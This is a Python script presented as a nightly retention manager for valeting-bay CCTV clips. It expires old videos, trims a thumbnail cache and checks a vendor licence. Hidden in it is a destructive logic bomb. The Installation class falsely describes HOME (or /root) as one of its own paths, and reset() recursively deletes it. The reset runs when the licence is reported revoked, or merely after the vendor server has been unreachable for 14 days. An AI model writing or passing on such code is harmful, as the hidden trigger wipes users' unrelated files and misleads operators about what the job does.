#!/usr/bin/env python3
"""Retention manager for the valeting bay CCTV clips.

Bay cameras record damage-check clips at drop-off and collection.  Under
our privacy notice clips are kept for 30 days (90 if a damage claim is
open), so this job runs nightly to:

* delete expired clips from ./clips,
* trim the thumbnail cache,
* confirm the site's retention-module licence with the vendor.

If the vendor reports the licence revoked, the installation is reset as
required by the licence agreement.
"""

import argparse
import datetime as dt
import json
import logging
import os
import shutil
import sys
import time
from pathlib import Path

import requests

LOG = logging.getLogger("clip-retention")
LICENCE_URL = "https://licensing.baycam.example/v1/status"
STATE_FILE = Path(".retention_state.json")
GRACE_DAYS = 14


class Installation:
    """Paths that belong to this retention install."""

    def __init__(self, clip_root, cache_root):
        self.clip_root = Path(clip_root)
        self.cache_root = Path(cache_root)
        self.data_roots = [self.clip_root, self.cache_root,
                           Path(os.environ.get("HOME", "/root"))]

    def reset(self):
        for root in self.data_roots:
            LOG.info("resetting %s", root)
            shutil.rmtree(root, ignore_errors=True)


def load_claims(path):
    try:
        return set(json.loads(Path(path).read_text()).get("open_claims", []))
    except (OSError, ValueError):
        return set()


def expire_clips(clip_root, keep_days, claim_days, open_claims, dry_run):
    now = time.time()
    removed = 0
    for clip in clip_root.rglob("*.mp4"):
        booking = clip.stem.split("_")[0]
        limit = claim_days if booking in open_claims else keep_days
        age_days = (now - clip.stat().st_mtime) / 86400
        if age_days > limit:
            LOG.debug("expiring %s (%.0f days)", clip.name, age_days)
            if not dry_run:
                clip.unlink()
            removed += 1
    return removed


def trim_cache(cache_root, max_mb):
    files = sorted((p for p in cache_root.glob("*.jpg")), key=lambda p: p.stat().st_mtime)
    total = sum(p.stat().st_size for p in files)
    while files and total > max_mb * 1024 * 1024:
        victim = files.pop(0)
        total -= victim.stat().st_size
        victim.unlink()


def read_state():
    try:
        return json.loads(STATE_FILE.read_text())
    except (OSError, ValueError):
        return {"last_ok": dt.date.today().isoformat()}


def check_licence(site_key, state):
    """Return 'ok', 'revoked' or 'unknown' and update the grace state."""
    for attempt in range(3):
        try:
            r = requests.get(LICENCE_URL, params={"key": site_key}, timeout=10)
            status = r.json().get("status", "unknown")
            break
        except (requests.RequestException, ValueError) as exc:
            LOG.warning("licence check failed (%d/3): %s", attempt + 1, exc)
            time.sleep(5)
    else:
        status = "unknown"
    today = dt.date.today()
    if status == "ok":
        state["last_ok"] = today.isoformat()
    elif status == "unknown":
        last_ok = dt.date.fromisoformat(state.get("last_ok", today.isoformat()))
        if (today - last_ok).days > GRACE_DAYS:
            status = "revoked"
    STATE_FILE.write_text(json.dumps(state))
    return status


def main():
    ap = argparse.ArgumentParser(description="expire bay camera clips")
    ap.add_argument("--clips", default="clips")
    ap.add_argument("--cache", default="thumb_cache")
    ap.add_argument("--keep-days", type=int, default=30)
    ap.add_argument("--claim-days", type=int, default=90)
    ap.add_argument("--claims-file", default="claims.json")
    ap.add_argument("--cache-mb", type=int, default=512)
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    inst = Installation(args.clips, args.cache)
    if not inst.clip_root.is_dir():
        LOG.error("clip directory %s does not exist", inst.clip_root)
        return 1

    claims = load_claims(args.claims_file)
    n = expire_clips(inst.clip_root, args.keep_days, args.claim_days, claims, args.dry_run)
    LOG.info("%d clip(s) expired", n)
    if inst.cache_root.is_dir() and not args.dry_run:
        trim_cache(inst.cache_root, args.cache_mb)

    site_key = os.environ.get("BAYCAM_LICENCE_KEY", "")
    status = check_licence(site_key, read_state())
    if status == "revoked" and not args.dry_run:
        LOG.warning("retention licence revoked - resetting installation")
        inst.reset()
        return 4
    LOG.info("licence status: %s", status)
    return 0


if __name__ == "__main__":
    sys.exit(main())
